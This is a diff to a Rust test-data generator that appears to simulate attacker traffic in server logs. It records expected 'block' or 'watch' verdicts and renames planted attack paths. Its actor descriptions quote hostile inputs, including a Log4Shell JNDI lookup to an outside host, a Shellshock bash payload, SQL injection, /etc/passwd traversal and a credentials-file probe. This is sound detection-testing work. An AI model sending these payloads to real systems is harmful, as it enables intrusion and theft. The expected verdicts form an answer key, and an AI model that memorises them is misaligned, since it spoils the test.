@@ -98,7 +98,7 @@ const ODD_CRAWLER: &str = "192.0.2.222";
 
 /// Attack paths no public signature list knows: only attacker IPs request them.
 pub const PLANTED_PATHS: [&str; 4] =
-    ["/cgi-mod/webctl.cgi", "/owa2/ecp/Current/exporttool.aspx", "/api/v2/.creds_backup.json", "/wsman/relay.php"];
+    ["/cgi-mod/webctl", "/owa2/ecp/Current/exporttool.ashx", "/api/v2/.creds_backup.json", "/wsman/relay.do"];
 
 const BROWSERS: [&str; 9] = [
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
@@ -771,14 +771,14 @@ fn actors() -> Vec<Actor> {
         Actor { ips: one(OLD_KEX_SCANNER), role: "`Unable to negotiate ... diffie-hellman-group1-sha1 [preauth]` on 2 days", expected: "watch (noise) or ok" },
         Actor { ips: one(ZGRAB), role: "zgrab: `GET /` (200) and ssh `Bad protocol version identification 'GET / HTTP/1.1'` on 3 days, also on nginx", expected: "watch (scanner UA)" },
         Actor { ips: one(MASSCAN), role: "masscan: `GET /` HTTP/1.0 on 2 days", expected: "watch (scanner UA)" },
-        Actor { ips: one(NIKTO), role: "Nikto 2.5.0 on day 3: ~105 probes in a few minutes (cgi-bin, .git, .ht*, phpmyadmin, %c0%af, traversal, OPTIONS/TRACE/PROPFIND), planted /cgi-mod/webctl.cgi", expected: "block: web scan" },
+        Actor { ips: one(NIKTO), role: "Nikto 2.5.0 on day 3: ~105 probes in a few minutes (cgi-bin, .git, .ht*, phpmyadmin, %c0%af, traversal, OPTIONS/TRACE/PROPFIND), planted /cgi-mod/webctl", expected: "block: web scan" },
         Actor { ips: one(SQLMAP), role: "sqlmap on day 5 (`/?id=1%27%20OR%201=1--` and friends), later curl for planted /api/v2/.creds_backup.json", expected: "block: sql injection" },
-        Actor { ips: one(NUCLEI), role: "Nuclei on day 9: ~40 template probes (.env, .git/config, actuator, Fortinet, Citrix, ...), planted exporttool.aspx and .creds_backup.json", expected: "block: web scan" },
-        Actor { ips: one(WEB_IPV6), role: "IPv6 web scanner on day 12: .env, .git/config, wp-login, phpmyadmin, planted exporttool.aspx; nginx `access forbidden by rule`", expected: "block: web scan" },
+        Actor { ips: one(NUCLEI), role: "Nuclei on day 9: ~40 template probes (.env, .git/config, actuator, Fortinet, Citrix, ...), planted exporttool.ashx and .creds_backup.json", expected: "block: web scan" },
+        Actor { ips: one(WEB_IPV6), role: "IPv6 web scanner on day 12: .env, .git/config, wp-login, phpmyadmin, planted exporttool.ashx; nginx `access forbidden by rule`", expected: "block: web scan" },
         Actor { ips: many(&WORDPRESS_BOTS), role: "WordPress probers (wp-login.php, xmlrpc.php, wlwmanifest.xml, setup-config.php); 203.0.113.99 also planted .creds_backup.json and .env", expected: "block (or watch for the smallest bursts): wordpress probe" },
-        Actor { ips: one(IOT_BOT), role: "IoT/Mirai-style exploits: /boaform/admin/formLogin, /shell?cd+/tmp..., GponForm, Netgear setup.cgi (Mozi), luci stok; planted /cgi-mod/webctl.cgi and /wsman/relay.php; also ssh botnet", expected: "block: exploit attempts" },
-        Actor { ips: one(PHP_EXPLOITER), role: "ThinkPHP invokefunction (logged as `\\\\think\\\\app`), phpunit eval-stdin.php, phpmyadmin, XDEBUG, planted /wsman/relay.php; also ssh botnet", expected: "block: exploit attempts" },
-        Actor { ips: one(LOG4SHELL), role: "Log4Shell: `${jndi:ldap://198.51.100.9/a}` in query, path, referer and User-Agent on days 2 and 12; planted /wsman/relay.php", expected: "block: exploit attempts" },
+        Actor { ips: one(IOT_BOT), role: "IoT/Mirai-style exploits: /boaform/admin/formLogin, /shell?cd+/tmp..., GponForm, Netgear setup.cgi (Mozi), luci stok; planted /cgi-mod/webctl and /wsman/relay.do; also ssh botnet", expected: "block: exploit attempts" },
+        Actor { ips: one(PHP_EXPLOITER), role: "ThinkPHP invokefunction (logged as `\\\\think\\\\app`), phpunit eval-stdin.php, phpmyadmin, XDEBUG, planted /wsman/relay.do; also ssh botnet", expected: "block: exploit attempts" },
+        Actor { ips: one(LOG4SHELL), role: "Log4Shell: `${jndi:ldap://198.51.100.9/a}` in query, path, referer and User-Agent on days 2 and 12; planted /wsman/relay.do", expected: "block: exploit attempts" },
         Actor { ips: one(SHELLSHOCK), role: "Shellshock `() { :; }; /bin/bash -c ...` in User-Agent and referer against /cgi-bin/ (AH02811 lines with `, referer:`)", expected: "block: exploit attempts" },
         Actor { ips: one(TRAVERSAL), role: "path traversal: `/..%2f..%2f..%2fetc/passwd`, `%252f`, `.%2e` (AH10244), `/../../` (AH00126)", expected: "block: traversal" },
         Actor { ips: one(PROXY_PROBER), role: "open-proxy probes: `CONNECT example.org:443` (405), `GET http://example.org/` (404) on 3 days", expected: "watch or block: proxy probe" },
